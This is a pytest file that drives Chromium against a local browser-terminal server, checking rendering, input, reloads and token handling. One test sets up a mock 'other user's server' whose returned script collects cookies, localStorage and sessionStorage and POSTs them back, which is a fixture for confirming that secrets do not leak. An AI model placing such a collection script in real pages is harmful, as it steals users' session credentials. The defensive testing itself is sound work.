"""The page in a real browser."""

from __future__ import annotations

from urllib.parse import urlsplit

import pytest
from aiohttp import web

from runner.serve import place
from tests.serve.chromium import BROWSER, NONE_HERE, chromium
from tests.serve.conftest import TOKEN

pytestmark = pytest.mark.skipif(BROWSER is None, reason=NONE_HERE)


async def test_the_program_in_a_page(serving, tmp_path):
    door = await serving()
    async with chromium(tmp_path / "profile") as browser:
        page = await browser.page()
        await page.visit(door.root)
        await page.until(
            "document.body && document.body.innerText.includes('has not provided the token yet')"
        )

        await page.visit(door.url)  # another fragment of the same page
        rows = await page.until_shown("한국어")
        assert rows[0].startswith("|한국어 실습|ab|")
        assert await page.column(0, "|") == [0, 12, 15]
        assert await page.value("location.hash + location.search") == ""
        assert await page.value("document.title") == "Labgate"

        await page.type("hello")
        await page.insert("안녕")
        await page.until_shown("typed [hello안녕]")

        await page.resize(700, 400)
        cols, lines = await page.until(
            "caught.terminal.cols < 90 && [caught.terminal.cols, caught.terminal.rows]"
        )
        await page.until_shown(f"{cols} x {lines} cells")

        await page.press("F5", 116)
        await page.until("!document.querySelector('#ended').hidden")
        assert {urlsplit(url).hostname for url in page.requests} == {"127.0.0.1"}


async def test_reloading_and_further_tabs_work_and_a_wrong_token_does_not(serving, tmp_path):
    door = await serving()
    async with chromium(tmp_path / "profile") as browser:
        page = await browser.page()
        await page.visit(door.url)
        await page.until_shown("cells")
        await page.value("window.before = true")
        await page.call("Page.reload")
        await page.until("!window.before")
        await page.until_shown("cells")
        second = await browser.page()
        await second.visit(door.root)
        await second.until_shown("cells")
        third = await browser.page()
        await third.visit(f"{door.root}/static/page.css")
        await third.value("localStorage.clear()")
        await third.visit(f"{door.root}/#token=wrong")
        await third.until("document.body && document.body.innerText.includes('no longer valid')")


class Other:
    """Another user's server on another port of the same address: it writes down all that it gets."""

    def __init__(self) -> None:
        self.got: list[str] = []

    async def answer(self, request: web.Request) -> web.Response:
        body = await request.text()
        self.got += [str(request.url), repr(sorted(request.headers.items())), body]
        script = """
        <script>
          const kept = [document.cookie, {...localStorage}, {...sessionStorage}, window.name];
          const told = JSON.stringify([location.href, document.referrer, ...kept]);
          fetch("/told", {method: "POST", body: told}).then(() => document.title = "told");
        </script>
        """
        return web.Response(text=script, content_type="text/html")

    async def serve(self) -> tuple[web.AppRunner, str]:
        app = web.Application()
        app.router.add_route("*", "/{path:.*}", self.answer)
        runner = web.AppRunner(app)
        await runner.setup()
        listening = place.listen("127.0.0.1", 0)
        await web.SockSite(runner, listening).start()
        return runner, f"http://127.0.0.1:{place.port_of(listening)}"


async def test_a_server_on_another_port_gets_nothing_that_opens_the_shell(serving, tmp_path):
    door, other = await serving(), Other()
    runner, theirs = await other.serve()
    try:
        async with chromium(tmp_path / "profile") as browser:
            page = await browser.page()
            await page.visit(door.url)
            await page.until_shown("cells")
            passed = await page.value("localStorage.getItem('labgate-pass')")
            assert passed == door._pass
            await page.value(
                f"fetch('{theirs}/', {{mode: 'no-cors', credentials: 'include'}}).catch(() => 0)"
            )
            await page.visit(f"{theirs}/by-a-link")
            await page.until("document.title === 'told'")
            second = await browser.page()
            await second.visit(f"{theirs}/by-its-address")
            await second.until("document.title === 'told'")
        got = "\n".join(other.got)
        assert "by-a-link" in got
        assert "by-its-address" in got
        for secret in (TOKEN, passed, door._token):
            assert secret not in got
    finally:
        await runner.cleanup()
